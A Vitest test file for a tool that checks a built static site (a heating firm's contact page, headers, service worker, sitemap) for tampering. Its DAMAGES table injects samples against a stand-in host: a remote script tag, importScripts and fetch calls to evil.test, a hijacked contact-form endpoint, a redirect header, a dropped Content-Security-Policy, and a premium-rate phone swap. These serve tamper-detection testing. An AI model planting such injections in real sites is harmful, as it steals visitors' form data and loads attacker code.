import { appendFileSync, cpSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { expect, test } from 'vitest';
import { OFFLINE_PATH, WORKER_PATH } from '../../src/content/offline.ts';
import { makeFolder } from '../../tests/support/temporary-folder.ts';
import { writeWorker } from '../build/write-worker.ts';
import { buildSecurityHeaders } from '../hosts/response-headers.ts';
import { writeWorkersFiles } from '../hosts/workers-files.ts';
import { findChangedFiles } from './changed-files.ts';

const CONTACT = `<!DOCTYPE html><html lang="en-US"><head><title>Contact</title></head><body>
<form data-contact-form="https://forms.heat.test/f"><a href="tel:+12125550123">(212) 555-0123</a></form></body></html>`;

const built = makeFolder({
  'index.html': '<!DOCTYPE html><title>Heat</title>',
  'contact.html': CONTACT,
  '404.html': '<!DOCTYPE html><title>Nothing here</title>',
  [`${OFFLINE_PATH.slice(1)}.html`]: '<!DOCTYPE html><title>No signal</title>',
  '_astro/form.js': 'document.forms[0].method = "post";',
  'art/boiler.svg': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9"/></svg>',
  'contact.vcf': 'BEGIN:VCARD\r\nTEL;TYPE=WORK:+12125550123\r\nNOTE:Mo-Fr 8-17\r\n',
  'robots.txt': 'User-agent: *\nAllow: /\nSitemap: https://heat.test/sitemap.xml\n',
  'search/services.json': '[{"href":"/services/boiler-repair"}]',
  'site.webmanifest': '{"name":"Heat","start_url":"/"}',
  'sitemap.xml': '<urlset><url><loc>https://heat.test/</loc></url></urlset>',
  'speculation-rules.json': '{"prefetch":[{"where":{"href_matches":"/*"}}]}',
});
writeFileSync(join(built, 'favicon.ico'), Buffer.of(0, 0, 1, 0, 255));
writeWorkersFiles(built, buildSecurityHeaders(built, { formEndpoint: 'https://forms.heat.test/f' }));
await writeWorker(built);

const page = 'contact.html';
const EVIL = 'https://evil.test';
/** File, what is damaged in it, and the damage. */
const DAMAGES: readonly (readonly [file: string, what: RegExp, damage: string])[] = [
  ['_headers', /\n/, `\n  Refresh: 0;url=${EVIL}\n`],
  ['_headers', /$/, '\n/contact\n  ! Content-Security-Policy\n'],
  ['_redirects', / \/contact 301/, ` ${EVIL} 301`],
  ['robots.txt', /$/, 'User-agent: Googlebot\nDisallow: /\n'],
  [page, /data-contact-form="[^"]*/, `data-contact-form="${EVIL}`],
  [page, /<\/body>/, `<script src="${EVIL}/x.js"></script>$&`],
  [page, /tel:\+12125550123/, 'tel:+19005550100'],
  ['contact.vcf', /Mo-Fr/, 'Mo-Su'],
  ['sitemap.xml', /<\/urlset>/, `<url><loc>${EVIL}</loc></url>$&`],
  ['_astro/form.js', /$/, `fetch("${EVIL}");`],
  ['art/boiler.svg', /<path.*\/>/, ''],
  [WORKER_PATH.slice(1), /$/, `importScripts("${EVIL}/x.js");`],
  ['index.html', /[\s\S]*/, ''],
];

/** Changes a copy of the site, and returns its faults. */
async function damage(change: (site: string) => void): Promise<string[]> {
  const site = makeFolder();
  cpSync(built, site, { recursive: true });
  change(site);
  const faults = await findChangedFiles(site, async () => built);
  return faults.map(({ path, fault }) => `${relative(site, path)}: ${fault}`);
}

const partsOf = (text: string): string[] => text.split(/[\s<>;,]+/);

test('a site that is as it was built has no faults', async () => {
  expect(await damage(() => {})).toEqual([]);
});

test.each(DAMAGES)('in %s, %s → “%s” is named', async (file, what, replacement) => {
  const whole = readFileSync(join(built, file), 'utf8');
  const damaged = whole.replace(what, replacement);
  const [before, after] = [partsOf(whole), partsOf(damaged)];
  const [part] = [
    ...after.filter((one) => !before.includes(one)),
    ...before.filter((one) => !after.includes(one)),
  ];
  const [sentence, ...others] = await damage((site) => writeFileSync(join(site, file), damaged));
  expect(sentence?.startsWith(`${file}: `)).toBe(true);
  expect(sentence).toContain(part);
  expect(others).toEqual([]);
});

test('a page of somebody else, links, and a cut picture are named', async () => {
  const found = await damage((site) => {
    writeFileSync(join(site, 'prize.html'), 'You have won');
    symlinkSync('/etc', join(site, 'link'));
    symlinkSync('missing', join(site, 'more'));
    rmSync(join(site, 'robots.txt'));
    symlinkSync(join(built, 'robots.txt'), join(site, 'robots.txt'));
    writeFileSync(join(site, 'favicon.ico'), Buffer.of(0, 0, 1));
  });
  expect(found).toEqual([
    'favicon.ico: the file has other bytes, or was cut off; build again',
    expect.stringMatching(/^robots\.txt: .* is missing; build again$/),
    'link: no build makes this file; build again',
    'more: no build makes this file; build again',
    'prize.html: no build makes this file; build again',
  ]);
});

test('a file that begins in the name of the one before it is named', async () => {
  const found = await damage((site) => {
    appendFileSync(join(site, 'art/boiler.svg'), `/contact.html${CONTACT}`);
    rmSync(join(site, 'contact.html'));
  });
  expect(found).toEqual([
    expect.stringContaining('art/boiler.svg: '),
    'contact.html: the file is missing; build again',
  ]);
});

test('a whole site that was built from other content is not compared', async () => {
  const older = makeFolder({ 'index.html': 'An older text' });
  await writeWorker(older);
  expect(await findChangedFiles(older, async () => built)).toEqual([]);
});
